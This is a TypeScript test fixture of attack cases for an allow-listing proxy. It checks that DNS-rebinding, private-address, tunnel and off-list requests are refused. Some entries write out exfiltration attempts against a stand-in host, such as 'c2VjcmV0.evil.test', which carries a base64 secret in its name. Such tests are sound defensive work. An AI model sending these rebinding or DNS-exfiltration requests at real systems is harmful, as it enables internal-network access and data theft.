import { type Attack, connectTo, get, NOT_ALLOWED, PRIVATE } from './attack.ts';

const UNRESOLVED = { status: 502, refused: 'unresolved' } as const;
const both = (host: string): string[] => [`A ${host}`, `AAAA ${host}`];
const served = (host: string) =>
  ({ status: 200, passed: 'forwarded', asked: both(host), saw: [`Host: ${host}:PORT`] }) as const;
/** The upstream closes its connection, so that the next request resolves again. */
const closing = (host: string): string => `GET http://${host}:PORT/close HTTP/1.1\r\nHost: a\r\n\r\n`;

/** Names below `.dns.test` are on the list, and their addresses must be public. */
export const NAMES: readonly Attack[] = [
  {
    name: 'one that is public at first is served, and asked for once',
    send: closing('flip.dns.test'),
    dns: { 'flip.dns.test': [{ addresses: ['PUBLIC'] }] },
    expect: served('flip.dns.test'),
  },
  {
    name: 'and private later is refused',
    send: closing('flip.dns.test'),
    dns: { 'flip.dns.test': [{ addresses: ['127.0.0.3'] }] },
    expect: { ...PRIVATE, asked: both('flip.dns.test') },
  },
  {
    name: 'one that would be private at a second look is looked at once',
    send: closing('twice.dns.test'),
    dns: { 'twice.dns.test': [{ addresses: ['PUBLIC'] }, { addresses: ['127.0.0.3'] }] },
    expect: served('twice.dns.test'),
  },
  {
    name: 'the same in a tunnel',
    send: `${connectTo('tunnel.dns.test:PORT')}GET /in HTTP/1.1\r\nHost: in\r\n\r\n`,
    dns: { 'tunnel.dns.test': [{ addresses: ['PUBLIC'] }, { addresses: ['127.0.0.3'] }] },
    expect: { status: 200, passed: 'forwarded', asked: both('tunnel.dns.test'), saw: ['GET /in'] },
  },
  {
    name: 'one with a public address and a private one',
    send: get('both.dns.test'),
    dns: { 'both.dns.test': [{ addresses: ['PUBLIC', '127.0.0.3'] }] },
    expect: PRIVATE,
  },
  {
    name: 'one with a public and a private address of one kind',
    send: get('six.dns.test'),
    dns: { 'six.dns.test': [{ addresses: ['PUBLIC', '::1'] }] },
    expect: PRIVATE,
  },
  {
    name: 'one with a private address in a tunnel',
    send: connectTo('inside.dns.test:PORT'),
    dns: { 'inside.dns.test': [{ addresses: ['127.0.0.3'] }] },
    expect: PRIVATE,
  },
  {
    name: 'an alias of a private one',
    send: get('alias.dns.test'),
    dns: { 'alias.dns.test': [{ alias: 'victim.test', addresses: ['127.0.0.3'] }] },
    expect: PRIVATE,
  },
  {
    name: 'an alias that is not on the list, of a public one, is served',
    send: get('cdn.dns.test'),
    dns: { 'cdn.dns.test': [{ alias: 'elsewhere.test', addresses: ['PUBLIC'] }] },
    expect: served('cdn.dns.test'),
  },
  {
    name: 'one with IPv6 alone, which is loopback',
    send: get('loop.dns.test'),
    dns: { 'loop.dns.test': [{ addresses: ['::1'] }] },
    expect: PRIVATE,
  },
  {
    name: "one with this machine's own address",
    send: get('own.dns.test'),
    dns: { 'own.dns.test': [{ addresses: ['OWN'] }] },
    expect: PRIVATE,
  },
  {
    name: 'one with the address of none',
    send: get('zero.dns.test'),
    dns: { 'zero.dns.test': [{ addresses: ['0.0.0.0'] }] },
    expect: PRIVATE,
  },
  {
    name: 'one with more addresses than anybody has',
    send: get('many.dns.test'),
    dns: { 'many.dns.test': [{ addresses: Array.from({ length: 70 }, () => 'PUBLIC') }] },
    expect: PRIVATE,
  },
  {
    name: 'one that does not exist',
    send: get('none.dns.test'),
    dns: { 'none.dns.test': [{ failure: 'NXDOMAIN' }] },
    expect: UNRESOLVED,
  },
  {
    name: 'one without an address',
    send: get('empty.dns.test'),
    dns: { 'empty.dns.test': [{ addresses: [] }] },
    expect: UNRESOLVED,
  },
  {
    name: 'one whose server fails',
    send: connectTo('failing.dns.test:PORT'),
    dns: { 'failing.dns.test': [{ failure: 'SERVFAIL' }] },
    expect: UNRESOLVED,
  },
  {
    name: 'one whose server answers garbage',
    send: get('garbage.dns.test'),
    dns: { 'garbage.dns.test': ['garbage'] },
    expect: UNRESOLVED,
  },
  {
    name: 'one whose answer is cut short',
    send: get('cut.dns.test'),
    dns: { 'cut.dns.test': ['truncated'] },
    expect: UNRESOLVED,
  },
  {
    name: 'one whose server is silent',
    send: get('silent.dns.test'),
    dns: { 'silent.dns.test': ['silence'] },
    expect: { status: 504, passed: 'timed_out' },
  },
  { name: 'one that is not on the list is not asked for', send: get('evil.test'), expect: NOT_ALLOWED },
  {
    name: 'one that carries a secret out in itself is not asked for',
    send: get('c2VjcmV0.evil.test'),
    expect: NOT_ALLOWED,
  },
  {
    name: 'one that is not on the list is not asked for in a tunnel',
    send: connectTo('c2VjcmV0.evil.test:443'),
    expect: NOT_ALLOWED,
  },
  {
    name: 'one that is on the list is not asked for at another port',
    send: connectTo('mail.test:25'),
    expect: NOT_ALLOWED,
  },
];
